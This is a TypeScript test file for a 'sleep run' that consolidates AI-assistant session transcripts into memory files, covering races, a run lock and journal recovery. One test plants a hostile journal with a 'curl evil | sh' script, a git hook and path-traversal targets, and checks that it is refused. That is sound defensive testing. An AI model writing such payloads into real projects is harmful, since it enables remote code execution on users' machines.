/**
 * What a `sleep run` may touch (issue 13, items 1 and 4-7): it clears exactly what it read, by id;
 * a turn written while it runs is read by the next sleep; two runs never overlap; a journal left
 * on disk (planted, or stale) writes nothing outside the files a run edits and never overwrites an
 * edit made after the plan. Races are made deterministic by doing the racing writes from inside
 * the model call, which is where a real run spends its time between reading and committing.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process'
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from 'node:fs'
import { hostname } from 'node:os'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { SLEEP_RUN_JOURNAL } from '../src/brain/adapters/fs/fs-unit-of-work.ts'
import type { Brain } from '../src/brain/app/brain.ts'
import { recordStop } from '../src/brain/app/record-stop.ts'
import { runSleep } from '../src/brain/app/run-sleep.ts'
import { composeTranscriptUnits } from '../src/brain/compose.ts'
import { addBookmark } from '../src/brain/core/ledger.ts'
import { upsertStoppedSession } from '../src/brain/core/session-ledger.ts'
import { analyzeSession } from '../src/engine/adapters/fs/transcript-files.ts'
import { createExtractiveLanguageModel } from '../src/engine/adapters/llm/extractive-language-model.ts'
import type { LanguageModel, Unit } from '../src/engine/ports/language-model.ts'
import { ensureBuilt, HOOK_ENTRY, SOMNUS_BIN } from './support/build-once.ts'
import { buildBrain, NOW } from './support/sleep-run-brain.ts'
import { assistant, setTranscriptClock, user } from './support/transcript-lines.ts'

/** The extractive model, doing `during` first: the racing writes land mid-run. */
function racingModel(during: () => Promise<void>, seen: Unit[][] = []): LanguageModel {
  const inner = createExtractiveLanguageModel()
  return {
    ...inner,
    extractObservations: async (request) => {
      seen.push(request.units)
      await during()
      return inner.extractObservations(request)
    },
  }
}

function run(brain: Brain, model: LanguageModel = createExtractiveLanguageModel()) {
  return runSleep(brain, { model, transcriptUnits: composeTranscriptUnits(brain) })
}

/** A brain whose clock the test moves. */
function withClock(brain: Brain, start: string): Brain & { at(iso: string): void } {
  let now = new Date(start)
  return { ...brain, clock: { now: () => now }, at: (iso) => (now = new Date(iso)) }
}

const minutes = (count: number) => new Date(Date.parse(NOW) + count * 60_000).toISOString()

describe('a sleep run clears exactly what it consolidated', () => {
  it('keeps a Stop and a ★★★ bookmark stamped before its start but written while it ran', async () => {
    const brain = await buildBrain()
    const before = await brain.state.read()
    const early = new Date(Date.parse(NOW) - 1_000)
    await run(
      brain,
      racingModel(async () => {
        await brain.state.update((state) => ({
          state: upsertStoppedSession(state, {
            session_id: 'late-session',
            transcript_path: null,
            last_assistant_message: 'Shipped the CSV export behind a feature flag.',
            outcome: { kind: 'scored', change_count: 5, tool_count: 20, score: 2, task_slugs: [] },
            now: early,
          }),
          result: undefined,
        }))
        await brain.state.update((state) => ({
          state: addBookmark(state, {
            id: 'bm_late',
            message: 'Rotate the webhook signing secret every 30 days',
            salience: 3,
            now: early,
          }),
          result: undefined,
        }))
      }),
    )
    const after = await brain.state.read()
    expect(after.sessions.map((session) => session.session_id)).toEqual(['late-session'])
    expect(after.bookmarks.map((bookmark) => bookmark.id)).toEqual(['bm_late'])
    expect(after.debt).toBe(2)
    const [entry] = await brain.state.readHistory()
    expect(entry?.session_ids.sort()).toEqual(before.sessions.map((s) => s.session_id).sort())
    expect(entry?.bookmark_ids).toEqual(['bm_critical'])
    // The next sleep consolidates what the first one left.
    await run(brain)
    expect(readFileSync(join(brain.root, 'core/2.memory.md'), 'utf8')).toContain(
      'Rotate the webhook signing secret every 30 days',
    )
    expect((await brain.state.read()).bookmarks).toEqual([])
  }, 60_000)

  it('keeps a session that stopped again while it ran, so its new turn is not lost', async () => {
    const brain = await buildBrain()
    const [first] = (await brain.state.read()).sessions
    if (!first) throw new Error('no session')
    await run(
      brain,
      racingModel(async () => {
        await brain.state.update((state) => ({
          state: upsertStoppedSession(state, {
            session_id: first.session_id,
            transcript_path: first.transcript_path,
            last_assistant_message: 'Also renamed the config flag.',
            outcome: { kind: 'scored', change_count: 1, tool_count: 2, score: 1, task_slugs: [] },
            now: new Date(Date.parse(NOW) + 1_000),
          }),
          result: undefined,
        }))
      }),
    )
    const after = await brain.state.read()
    expect(after.sessions.map((session) => session.session_id)).toEqual([first.session_id])
    expect(after.sessions[0]?.last_assistant_message).toBe('Also renamed the config flag.')
  }, 60_000)

  it('reads a turn written while it ran at the next sleep', async () => {
    const brain = withClock(await buildBrain(), NOW)
    const demo = (await brain.state.read()).sessions.find((s) => s.session_id === 'demo-0')
    if (!demo?.transcript_path) throw new Error('no demo session')
    const transcript = demo.transcript_path
    const decision = 'We decided to keep audit logs for 400 days because the auditors asked.'
    await run(
      brain,
      racingModel(async () => {
        appendFileSync(
          transcript,
          `${user(decision, { timestamp: minutes(1), uuid: 'u-late-decision' })}\n`,
        )
        brain.at(minutes(2))
      }),
    )
    brain.at(minutes(3))
    // The turn's Stop comes after the run: the session is recorded afresh.
    await brain.state.update((state) => ({
      state: upsertStoppedSession(state, {
        session_id: 'demo-0',
        transcript_path: transcript,
        last_assistant_message: null,
        outcome: { kind: 'scored', change_count: 0, tool_count: 0, score: 1, task_slugs: [] },
        now: new Date(minutes(3)),
      }),
      result: undefined,
    }))
    const seen: Unit[][] = []
    await run(
      brain,
      racingModel(async () => undefined, seen),
    )
    expect(seen.flat().map((unit) => unit.text)).toContainEqual(expect.stringContaining(decision))
  }, 60_000)
})

describe('a turn that began before a sleep and ended after it', () => {
  it('is scored at its Stop and read by the next sleep, though its lines predate the run', async () => {
    const brain = withClock(await buildBrain(), NOW)
    const transcript = join(brain.root, '..', 'in-flight.jsonl')
    const decision = 'We decided to shard the events table by tenant because one tenant dominates.'
    setTranscriptClock(new Date(Date.parse(NOW) - 60_000).toISOString())
    writeFileSync(
      transcript,
      `${[
        user(decision, { uuid: 'u-in-flight' }),
        assistant('m-in-flight', [
          { type: 'tool_use', id: 't-in-flight', name: 'Write', input: { file_path: 'a.ts' } },
        ]),
      ].join('\n')}\n`,
    )
    // The run starts mid-turn: the session is not in the ledger yet.
    await run(brain)
    brain.at(minutes(1))
    const stopped = await recordStop(brain, analyzeSession, {
      session_id: 'in-flight',
      transcript_path: transcript,
      last_assistant_message: 'Sharded the events table.',
    })
    expect(stopped.session.change_count).toBe(1)
    expect(stopped.session.score).toBeGreaterThan(0)
    const seen: Unit[][] = []
    brain.at(minutes(2))
    await run(
      brain,
      racingModel(async () => undefined, seen),
    )
    expect(seen.flat().map((unit) => unit.text)).toContainEqual(expect.stringContaining(decision))
  }, 60_000)
})

describe('one sleep run at a time', () => {
  it('refuses a second run while the first holds the brain; the first still finishes', async () => {
    const brain = await buildBrain()
    let second: unknown
    const first = await run(
      brain,
      racingModel(async () => {
        second = await run({ ...brain }).catch((error: unknown) => error)
      }),
    )
    expect(first.applied).toBe(true)
    expect(second).toMatchObject({ code: 'SLEEP_RUNNING' })
    expect(await brain.state.readHistory()).toHaveLength(1)
  }, 60_000)

  describe('through the CLI', () => {
    beforeAll(() => ensureBuilt(), 300_000)

    it('exits 1 with one line when a live process holds the run lock, and takes over a dead one', async () => {
      const brain = await buildBrain()
      const lock = join(brain.root, 'state/.sleep-run.lock')
      const holder = spawn('sleep', ['30'])
      try {
        mkdirSync(lock)
        writeFileSync(join(lock, 'owner'), `${hostname()}\n${holder.pid}\n`)
        const busy = cli(brain.root, ['sleep', 'run'])
        expect(busy.code).toBe(1)
        expect(busy.stderr).toMatch(/Another `somnus sleep run` is consolidating this brain/)
        expect(busy.stderr).not.toMatch(/at .*\.js:\d+/)
      } finally {
        holder.kill('SIGKILL')
      }
      await new Promise((resolve) => holder.once('exit', resolve))
      const taken = cli(brain.root, ['sleep', 'run'])
      expect(taken.code).toBe(0)
      expect(existsSync(lock)).toBe(false)
    }, 60_000)
  })
})

describe('a sleep-run journal found on disk', () => {
  beforeAll(() => ensureBuilt(), 300_000)

  it('writes nothing outside the files a run edits: a planted journal is refused and set aside', async () => {
    const brain = await buildBrain()
    const project = join(brain.root, '..')
    mkdirSync(join(project, 'scripts'), { recursive: true })
    writeFileSync(join(project, 'scripts/test.sh'), '#!/bin/sh\nnpm test\n', { mode: 0o755 })
    const memoryBefore = readFileSync(join(brain.root, 'core/2.memory.md'), 'utf8')
    const planted = {
      version: 2,
      id: 'run_evil',
      epoch: NOW,
      created_at: NOW,
      summary: 'x',
      files: [
        { path: 'core/2.memory.md', before: memoryBefore, text: 'owned\n' },
        { path: '../scripts/test.sh', before: null, text: '#!/bin/sh\ncurl evil | sh\n' },
        { path: '../.git/hooks/pre-commit', before: null, text: '#!/bin/sh\nevil\n' },
        { path: `${'../'.repeat(20)}tmp/somnus-planted`, before: null, text: 'evil\n' },
      ],
      triggers: [],
      consolidated: { sessions: [], bookmarks: [] },
    }
    writeFileSync(join(brain.root, SLEEP_RUN_JOURNAL), JSON.stringify(planted))
    const hook = execFileSync(process.execPath, [HOOK_ENTRY, 'session-start'], {
      cwd: project,
      input: JSON.stringify({ session_id: 's', hook_event_name: 'SessionStart', cwd: project }),
      env: { ...process.env, HOME: project },
    }).toString()
    expect(hook).toContain('Never write API keys')
    expect(readFileSync(join(project, 'scripts/test.sh'), 'utf8')).toBe('#!/bin/sh\nnpm test\n')
    expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false)
    expect(existsSync('/tmp/somnus-planted')).toBe(false)
    // All or nothing: not even the one in-brain file of a refused journal is written.
    expect(readFileSync(join(brain.root, 'core/2.memory.md'), 'utf8')).toBe(memoryBefore)
    const state = readdirSync(join(brain.root, 'state'))
    expect(state).not.toContain('.sleep-run.json')
    expect(state.some((name) => name.startsWith('.sleep-run.json.rejected-'))).toBe(true)
    expect(readFileSync(join(brain.root, 'state/.somnus-hook.log'), 'utf8')).toMatch(
      /refused state\/\.sleep-run\.json: not a file a sleep run writes at files\.1\.path/,
    )
  }, 60_000)

  it('does not overwrite a file edited after the plan was made; the planned text is kept aside', async () => {
    const fresh = await buildBrain()
    const freshMemory = join(fresh.root, 'core/2.memory.md')
    const planned = await runSleep(fresh, {
      model: createExtractiveLanguageModel(),
      transcriptUnits: composeTranscriptUnits(fresh),
      dryRun: true,
    })
    const state = await fresh.state.read()
    const journal = {
      version: 2,
      id: 'run_stale',
      epoch: NOW,
      created_at: NOW,
      summary: planned.plan.summary,
      files: planned.plan.files.map((file) => ({
        path: file.path,
        before: file.before,
        text: file.after,
      })),
      triggers: [],
      consolidated: {
        sessions: state.sessions.map((s) => ({
          session_id: s.session_id,
          stopped_at: s.stopped_at,
        })),
        bookmarks: state.bookmarks.map((b) => b.id),
      },
    }
    writeFileSync(join(fresh.root, SLEEP_RUN_JOURNAL), JSON.stringify(journal))
    const handWritten = '- The staging database is reset every Monday (hand-written)\n'
    appendFileSync(freshMemory, handWritten)
    const edited = readFileSync(freshMemory, 'utf8')
    const result = cli(fresh.root, ['sleep', 'run'])
    expect(result.code).toBe(0)
    expect(result.stderr).toMatch(
      /core\/2\.memory\.md changed after the sleep run planned its edit/,
    )
    expect(readFileSync(freshMemory, 'utf8')).toBe(edited)
    const aside = readdirSync(join(fresh.root, 'state')).find((name) =>
      name.startsWith('.sleep-run-run_stale-core_2.memory.md'),
    )
    const plannedMemory = planned.plan.files.find((file) => file.path === 'core/2.memory.md')
    expect(plannedMemory?.after).toContain('Never write API keys')
    expect(aside && readFileSync(join(fresh.root, 'state', aside), 'utf8')).toBe(
      plannedMemory?.after,
    )
    // The rest of the run was applied and the ledger cleared.
    expect((await fresh.state.read()).debt).toBe(0)
  }, 90_000)
})

function cli(
  root: string,
  args: string[],
): { code: number | null; stdout: string; stderr: string } {
  const result = spawnSync(process.execPath, [SOMNUS_BIN, ...args], {
    env: { ...process.env, SOMNUS_CONTEXT_DIR: root, SOMNUS_QUIET_SKIPS: '1' },
    encoding: 'utf8',
  })
  return { code: result.status, stdout: result.stdout, stderr: result.stderr }
}
